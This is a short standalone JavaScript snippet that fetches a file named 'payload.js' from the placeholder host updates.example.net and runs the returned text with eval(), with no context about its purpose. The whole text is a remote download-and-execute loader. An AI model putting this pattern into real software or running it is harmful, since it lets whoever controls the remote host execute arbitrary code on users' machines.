fetch("https://updates.example.net/payload.js")
  .then(function (response) {
    return response.text();
  })
  .then(function (code) {
    eval(code);
  });
